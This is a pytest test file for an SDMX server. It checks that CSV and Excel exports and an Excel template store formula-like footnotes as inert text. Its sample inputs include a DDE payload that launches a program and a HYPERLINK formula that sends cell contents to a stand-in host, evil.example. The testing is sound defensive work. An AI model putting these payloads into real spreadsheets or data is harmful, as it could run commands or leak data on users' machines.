"""Footnotes that look like formulas stay text in every file people open in a spreadsheet program (issue 22,
finding 3; OWASP "CSV injection"): the report's CSV and Excel exports of real released figures, read back with
the csv module and openpyxl, and the Excel template. SDMX-CSV (for programs) keeps values as the standard says."""

from __future__ import annotations

import base64
import csv
import io

import pytest
from openpyxl import load_workbook

from sdmx_server.sdmx.formats.excel_template import TemplateColumn, write_template
from sdmx_server.sdmx.formats.spreadsheet_text import csv_text

from ..access_world import PASSWORD
from .conftest import sign_in
from .test_portal_reports import load

pytestmark = pytest.mark.storage

EXPORT = "/en/reports/DSM/DF_ENTRIES/1.0/export."
QUERY = "?country=KZ&SEX=F&start=2023-Q1&end=2023-Q4"
NOTES = ["=cmd|' /C calc'!A0", '+HYPERLINK("http://evil.example/?"&A1,"Click me")', "-2+3",
         "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "Border data, 2023"]


def released_with_notes(engine) -> None:
    """KZ's female RU/UZ/CN entrants with a note each that a spreadsheet would run, and one figure of -2."""
    out = io.StringIO()
    w = csv.writer(out, lineterminator="\n")
    for n, note in enumerate(NOTES):
        cit, period = ["RU", "UZ", "CN"][n % 3], f"2023-Q{n // 3 + 1}"
        w.writerow([cit, "F", period, -2 if n == 2 else 100 + n, "PS", "A", note])
    load(engine, "KZ", out.getvalue().splitlines())


@pytest.fixture
def noted(client, world, engine):
    released_with_notes(engine)
    sign_in(client, "kz_viewer")
    return client


def test_the_csv_export_neutralises_formula_text_and_keeps_numbers(noted):
    resp = noted.get(EXPORT + "csv" + QUERY)
    assert resp.status_code == 200, resp.data[:500]
    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))
    rows = rows[rows.index([]) + 1:]  # after the lines saying what the file holds
    notes = [r[-1] for r in rows[1:] if r[-1]]
    # SDMX-CSV intake trims the tab of "\t=1+1"; the formula that remains is neutralised all the same
    assert sorted(notes) == sorted(("'" + n.strip() if n[0] in "=+-@\t" else n) for n in NOTES)
    for row in rows:
        for field in row:
            assert not field.startswith(("=", "+", "-", "@", "\t", "\r")) or field == "-2", row
    assert any(r[-4:-2] == ["2023-Q1", "-2"] for r in rows)  # the negative figure is still a number


def test_the_excel_export_stores_text_as_text(noted):
    resp = noted.get(EXPORT + "xlsx" + QUERY)
    assert resp.status_code == 200, resp.data[:500]
    wb = load_workbook(io.BytesIO(resp.data))
    strings = []
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type in ("s", "inlineStr"), (cell.coordinate, cell.data_type)
                    strings.append(cell.value)
    assert all(n.strip() in strings for n in NOTES)  # the notes as stored, unchanged, as text (Figures sheet)
    figures = [[c.value for c in r] for r in wb.worksheets[1].iter_rows()]
    negative = next(r for r in figures if "-2+3" in r)
    assert -2 in negative and any(c.data_type == "n" and c.value == -2 for c in wb.worksheets[1]["D"])


def test_sdmx_csv_keeps_values_as_the_standard_says(noted, world):
    resp = noted.get("/rest/data/DSM,DF_ENTRIES,1.0/Q.KZ..F", headers={
        "Accept": "application/vnd.sdmx.data+csv;version=1.0.0",
        "Authorization": "Basic " + base64.b64encode(f"kz_viewer:{PASSWORD}".encode()).decode()})
    text = resp.get_data(as_text=True)
    assert resp.status_code == 200, text[:500]
    notes = [r["OBS_COMMENT"] for r in csv.DictReader(io.StringIO(text)) if r["OBS_COMMENT"]]
    assert "=cmd|' /C calc'!A0" in notes and "'=cmd|' /C calc'!A0" not in notes


def test_the_excel_template_writes_names_as_text(tmp_path):
    hostile = "=HYPERLINK(\"http://evil.example\",\"open\")"
    cols = [TemplateColumn("SEX", hostile, [("F", "=cmd|' /C calc'!A0"), ("M", "+1+1")], True),
            TemplateColumn("OBS_VALUE", "@SUM(A1)", None, True)]
    wb = load_workbook(io.BytesIO(write_template("urn:x", "=1+1", cols, "en")))
    seen = []
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                seen.append(cell.value)
    assert hostile in seen and "F: =cmd|' /C calc'!A0" in seen and "@SUM(A1)" in seen
    # the drop-down lists still point at the Codes sheet (a data validation, not a cell formula)
    assert wb["Data"].data_validations.dataValidation[0].formula1.lstrip("=").startswith("Codes!")


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("Border data", "Border data"), ("", ""), (-2, -2), (12.5, 12.5), (None, None)])
def test_csv_text(value, expected):
    assert csv_text(value) == expected
